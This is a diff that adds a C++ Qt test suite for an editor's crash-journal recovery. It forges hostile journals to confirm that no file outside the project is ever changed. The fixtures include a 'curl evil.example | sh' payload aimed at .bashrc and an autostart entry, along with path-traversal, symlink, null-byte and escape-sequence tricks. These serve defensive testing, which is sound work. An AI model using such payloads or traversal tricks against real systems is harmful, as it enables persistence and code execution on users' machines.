@@ -1,0 +1,321 @@
+// Journals of somebody else: in a project's folder, where they are never read, and in the user's own, where one may have been moved.
+// Each is restored as far as it is offered, and saved: no file outside the project is made or changed by it.
+
+#include <QTest>
+
+#include <map>
+
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include "base/platform/process_identity.h"
+#include "editor/document/found_journals.h"
+#include "project/journal_record.h"
+#include "project/state_folder.h"
+#include "sample_document.h"
+
+using namespace trundle;
+using namespace sample;
+namespace fs = std::filesystem;
+
+namespace {
+
+const std::string kEvil = "curl evil.example | sh\n";
+
+/// A journal as its writer makes it, byte by byte, so that every field can be a lie.
+struct Forged {
+    std::string opened, name;
+    ProcessIdentity writer = thisProcess();
+    std::vector<std::pair<std::string, RecoveredText>> files;
+    std::vector<std::string> more = {}; ///< fields of the head that no writer makes
+
+    [[nodiscard]] std::string bytes() const {
+        std::vector<std::string> head{opened, name, std::to_string(writer.pid), std::to_string(writer.start + 1), writer.host};
+        head.insert(head.end(), more.begin(), more.end());
+        std::string all = std::string(kJournalMark) + journalBytes({JournalRecord::Head, head});
+        for (const auto& [path, kept] : files) {
+            all += journalBytes({JournalRecord::Begin, {path, kept.base, "1700000000"}});
+            all += journalBytes({JournalRecord::Change, {path, "0", std::to_string(kept.base.size()), kept.text, "1700000000"}});
+        }
+        return all;
+    }
+};
+
+struct Place {
+    Desk desk;
+    std::string project = desk.path("configs"), outside = desk.path("outside"), bashrc = outside + "/.bashrc";
+    std::string inProject = project + "/.trundle/journal/1.journal", own = projectStateFolder(project) + "/journal/1.journal";
+
+    Place() {
+        desk.write("outside/.bashrc", "alias ll='ls -l'\n");
+        desk.write("outside/folder/x.sim", "Seed = 1\n");
+    }
+    [[nodiscard]] RecoveredText evil(const std::string& path) const { return {bytesOf(path), kEvil}; }
+    /// Edits of the project's own file, as an honest window would leave.
+    [[nodiscard]] std::pair<std::string, RecoveredText> honest() const {
+        return {desk.main, {kMain, std::string(kMain) + "Seed = 9\n"}};
+    }
+    [[nodiscard]] Forged forged(const std::string& path) const {
+        return {desk.main, {}, thisProcess(), {{path, evil(path)}, honest()}};
+    }
+    static void put(const std::string& at, const std::string& bytes) {
+        fs::create_directories(fs::path(at).parent_path());
+        std::ofstream(at, std::ios::binary) << bytes;
+        fs::permissions(at, fs::perms::owner_read | fs::perms::owner_write);
+    }
+    [[nodiscard]] std::map<std::string, std::string> state() const {
+        std::map<std::string, std::string> all;
+        for (const auto& entry : fs::recursive_directory_iterator(outside))
+            all[entry.path().string()] = entry.is_regular_file() && !entry.is_symlink() ? bytesOf(entry.path().string()) : "-";
+        return all;
+    }
+};
+
+enum class Offer { None, OwnFileOnly, Refused };
+
+struct Attack {
+    const char* name;
+    Offer offer;
+    bool told; ///< that there are journals which are not read
+    std::function<void(const Place&)> prepare;
+};
+
+const std::vector<Attack>& attacks() {
+    using enum Offer;
+    static const std::vector<Attack> all{
+        // --- what comes with a project
+        {"it comes with the project", None, true, [](const Place& p) { p.put(p.inProject, p.forged(p.bashrc).bytes()); }},
+        {"it comes with the project and is of its own files", None, true,
+         [](const Place& p) {
+             p.put(p.inProject, Forged{p.desk.main, {}, thisProcess(), {p.honest()}}.bytes());
+         }},
+        {"it comes from another machine", None, true,
+         [](const Place& p) {
+             Forged f = p.forged(p.bashrc);
+             f.writer = {1, 0, "elsewhere"};
+             p.put(p.inProject, f.bytes());
+         }},
+        {"it has a key", None, true,
+         [](const Place& p) {
+             Forged f = p.forged(p.bashrc);
+             f.more = {"hmac-sha256", std::string(32, '\x42')};
+             p.put(p.inProject, f.bytes());
+         }},
+        {"its folder is a link", None, false,
+         [](const Place& p) {
+             p.put(p.desk.path("journals/1.journal"), p.forged(p.bashrc).bytes());
+             fs::create_directories(p.project + "/.trundle");
+             fs::create_symlink(p.desk.path("journals"), p.project + "/.trundle/journal");
+         }},
+        {"the project's .trundle is a link", None, false,
+         [](const Place& p) {
+             p.put(p.desk.path("dot/journal/1.journal"), p.forged(p.bashrc).bytes());
+             fs::create_symlink(p.desk.path("dot"), p.project + "/.trundle");
+         }},
+        {"it is a pipe", None, true,
+         [](const Place& p) {
+             fs::create_directories(fs::path(p.inProject).parent_path());
+             QCOMPARE(::mkfifo(p.inProject.c_str(), 0600), 0);
+         }},
+        {"it is huge", None, true,
+         [](const Place& p) {
+             p.put(p.inProject, p.forged(p.bashrc).bytes());
+             fs::resize_file(p.inProject, std::uintmax_t{1} << 33);
+         }},
+        {"it is cut off", None, true, [](const Place& p) { p.put(p.inProject, p.forged(p.bashrc).bytes().substr(0, 100)); }},
+        // --- what got into the user's own folder
+        {"it names a file outside", OwnFileOnly, false, [](const Place& p) { p.put(p.own, p.forged(p.bashrc).bytes()); }},
+        {"it makes a file outside", OwnFileOnly, false,
+         [](const Place& p) { p.put(p.own, p.forged(p.outside + "/autostart/evil.desktop").bytes()); }},
+        {"it leaves the project by two dots", OwnFileOnly, false,
+         [](const Place& p) { p.put(p.own, p.forged(p.project + "/../outside/.bashrc").bytes()); }},
+        {"it leaves a folder that is not there by two dots", OwnFileOnly, false,
+         [](const Place& p) { p.put(p.own, p.forged(p.project + "/none/../../outside/.bashrc").bytes()); }},
+        {"it names a file by a path that is not whole", OwnFileOnly, false,
+         [](const Place& p) { p.put(p.own, p.forged("../outside/.bashrc").bytes()); }},
+        {"it names the project's folder", OwnFileOnly, false, [](const Place& p) { p.put(p.own, p.forged(p.project).bytes()); }},
+        {"a file of the project is a link to one outside", OwnFileOnly, false,
+         [](const Place& p) {
+             fs::create_symlink(p.bashrc, p.project + "/way.sim");
+             p.put(p.own, p.forged(p.project + "/way.sim").bytes());
+         }},
+        {"a file of the project is a link to nothing yet", OwnFileOnly, false,
+         [](const Place& p) {
+             fs::create_symlink(p.outside + "/later", p.project + "/way.sim");
+             p.put(p.own, p.forged(p.project + "/way.sim").bytes());
+         }},
+        {"a folder of the project is a link", OwnFileOnly, false,
+         [](const Place& p) {
+             fs::create_symlink(p.outside, p.project + "/way");
+             p.put(p.own, p.forged(p.project + "/way/folder/x.sim").bytes());
+         }},
+        {"a folder of the project is a link to nothing yet", OwnFileOnly, false,
+         [](const Place& p) {
+             fs::create_symlink(p.outside + "/later", p.project + "/way");
+             p.put(p.own, p.forged(p.project + "/way/x.sim").bytes());
+         }},
+        {"a name with commands for a terminal and HTML", OwnFileOnly, false,
+         [](const Place& p) { p.put(p.own, p.forged(p.outside + "/\x1b[2J<img src='/dev/zero'>\n" + p.desk.main).bytes()); }},
+        {"a zero byte behind a good name", OwnFileOnly, false,
+         [](const Place& p) { p.put(p.own, p.forged(p.desk.robot + std::string("\0/../../../outside/.bashrc", 26)).bytes()); }},
+        {"what it had open is outside", Refused, false,
+         [](const Place& p) {
+             Forged f = p.forged(p.bashrc);
+             f.opened = p.outside + "/folder/x.sim";
+             p.put(p.own, f.bytes());
+         }},
+        {"all that it changes is outside", Refused, false,
+         [](const Place& p) {
+             p.put(p.own, Forged{p.desk.main, {}, thisProcess(), {{p.bashrc, p.evil(p.bashrc)}}}.bytes());
+         }},
+        {"a new text with the path of a file", Refused, false,
+         [](const Place& p) {
+             Forged f{p.bashrc, "../outside/.bashrc", thisProcess(), {{p.bashrc, p.evil(p.bashrc)}}};
+             p.put(p.own, f.bytes());
+         }},
+        {"its writer is on another machine", None, false,
+         [](const Place& p) {
+             Forged f = p.forged(p.bashrc);
+             f.writer = {1, 0, "elsewhere"};
+             p.put(p.own, f.bytes());
+         }},
+        {"its head has fields that no writer makes", None, false,
+         [](const Place& p) {
+             Forged f = p.forged(p.bashrc);
+             f.more = {"trusted"};
+             p.put(p.own, f.bytes());
+         }},
+        {"it is a link", None, false,
+         [](const Place& p) {
+             p.put(p.desk.path("elsewhere.journal"), p.forged(p.bashrc).bytes());
+             fs::create_directories(fs::path(p.own).parent_path());
+             fs::create_symlink(p.desk.path("elsewhere.journal"), p.own);
+         }},
+        {"others may write it", None, false,
+         [](const Place& p) {
+             p.put(p.own, p.forged(p.bashrc).bytes());
+             fs::permissions(p.own, fs::perms::others_write, fs::perm_options::add);
+         }},
+        {"it is huge, in the user's own folder", None, false,
+         [](const Place& p) {
+             p.put(p.own, p.forged(p.bashrc).bytes());
+             fs::resize_file(p.own, std::uintmax_t{1} << 33);
+         }},
+        {"cut off after what is honest", OwnFileOnly, false,
+         [](const Place& p) {
+             Forged f{p.desk.main, {}, thisProcess(), {p.honest(), {p.bashrc, p.evil(p.bashrc)}}};
+             const std::string bytes = f.bytes();
+             p.put(p.own, bytes.substr(0, bytes.size() - 5));
+         }},
+    };
+    return all;
+}
+
+} // namespace
+
+class HostileJournalsTest : public QObject {
+    Q_OBJECT
+private Q_SLOTS:
+    void initTestCase() { m_parts = makeParts(); }
+
+    void nothingOutsideIsChanged_data() {
+        QTest::addColumn<int>("row");
+        for (std::size_t i = 0; i < attacks().size(); ++i) QTest::newRow(attacks()[i].name) << int(i);
+        QVERIFY(attacks().size() >= 10);
+    }
+    void nothingOutsideIsChanged() {
+        QFETCH(int, row);
+        const Attack& attack = attacks()[std::size_t(row)];
+        const Place place;
+        attack.prepare(place);
+        const auto before = place.state();
+        Document document(*m_parts);
+        QCOMPARE(why(document.open(place.desk.main)), "");
+        QCOMPARE(!journalsNotRead(document).isEmpty(), attack.told);
+        const std::vector<Recovery> found = document.recoveries();
+        QCOMPARE(found.size(), attack.offer == Offer::None ? 0u : 1u);
+        for (const Recovery& recovery : found) {
+            const Status done = document.recover(recovery);
+            QCOMPARE(done.ok(), attack.offer == Offer::OwnFileOnly);
+            if (!done)
+                QVERIFY2(done.error().message.find("outside the project") != std::string::npos, done.error().message.c_str());
+        }
+        for (const std::string& file : document.files()) QVERIFY2(file.starts_with(place.project + "/"), file.c_str());
+        QCOMPARE(document.isModified(), attack.offer == Offer::OwnFileOnly);
+        QCOMPARE(why(document.save()), "");
+        QCOMPARE(place.state(), before);
+        QCOMPARE(bytesOf(place.desk.main),
+                 attack.offer == Offer::OwnFileOnly ? std::string(kMain) + "Seed = 9\n" : std::string(kMain));
+        QCOMPARE(bytesOf(place.desk.robot), std::string(kRover));
+    }
+
+    // What was left out is not lost: the journal stays, and says so.
+    void whatIsLeftOutIsSaidAndKept() {
+        const Place place;
+        place.put(place.own, place.forged(place.bashrc).bytes());
+        Document document(*m_parts);
+        QSignalSpy noticed(&document, &Document::notice);
+        QVERIFY(document.open(place.desk.main).ok());
+        const Recovery recovery = document.recoveries().at(0);
+        QCOMPARE(filesOutside(recovery, document.foldersOf(recovery.project)), std::vector<std::string>{place.bashrc});
+        QVERIFY(document.recover(recovery).ok());
+        QVERIFY(noticed.front().front().toString().contains(QString::fromStdString(place.bashrc)));
+        QVERIFY(fs::exists(place.own));
+        QCOMPARE(bytesOf(place.own), place.forged(place.bashrc).bytes());
+    }
+
+    // A search folder is the user's choice: what is imported from there may be edited, and comes back.
+    void filesOfASearchFolderComeBack() {
+        const Place place;
+        const std::string part = place.outside + "/folder/x.sim";
+        place.put(place.own, Forged{place.desk.main, {}, thisProcess(), {{part, {bytesOf(part), "Seed = 5\n"}}}}.bytes());
+        Document document(*m_parts);
+        OpenOptions options;
+        options.includes = {place.outside};
+        document.setOptions(options);
+        QVERIFY(document.open(place.desk.main).ok());
+        QCOMPARE(why(document.recover(document.recoveries().at(0))), "");
+        QCOMPARE(why(document.save()), "");
+        QCOMPARE(bytesOf(part), "Seed = 5\n");
+    }
+
+    // A file that became a link since it was opened.
+    void aSaveFollowsNoLinkOutOfTheProject() {
+        for (const bool there : {true, false}) {
+            const Place place;
+            Document document(*m_parts);
+            QVERIFY(document.open(place.desk.main).ok());
+            QVERIFY(document.setValues(u"Set"_qs, {{"Tick", "0.02"}}).ok());
+            fs::remove(place.desk.main);
+            if (there) place.desk.write("outside/copy.sim", kMain); // the same bytes, so that nobody sees a change
+            fs::create_symlink(place.outside + "/copy.sim", place.desk.main);
+            const auto before = place.state();
+            QVERIFY(!document.save().ok());
+            QCOMPARE(place.state(), before);
+        }
+    }
+
+    // Words that a person reads say where the journals are, and where to put them.
+    void whatIsNotReadIsSaidWithBothPlaces() {
+        const Place place;
+        place.put(place.inProject, place.forged(place.bashrc).bytes());
+        Document document(*m_parts);
+        QVERIFY(document.open(place.desk.main).ok());
+        const QString said = journalsNotRead(document);
+        QVERIFY2(said.contains(QString::fromStdString(fs::path(place.inProject).parent_path().string())), qPrintable(said));
+        QVERIFY2(said.contains(QString::fromStdString(fs::path(place.own).parent_path().string())), qPrintable(said));
+        // Done as it says, an honest one comes back.
+        place.put(place.inProject, Forged{place.desk.main, {}, thisProcess(), {place.honest()}}.bytes());
+        fs::create_directories(fs::path(place.own).parent_path());
+        fs::rename(place.inProject, place.own);
+        QVERIFY(journalsNotRead(document).isEmpty());
+        QVERIFY(document.recover(document.recoveries().at(0)).ok());
+        QVERIFY(document.isModified());
+    }
+
+private:
+    std::unique_ptr<Parts> m_parts;
+};
+
+QTEST_GUILESS_MAIN(HostileJournalsTest)
+#include "hostile_journals_test.moc"
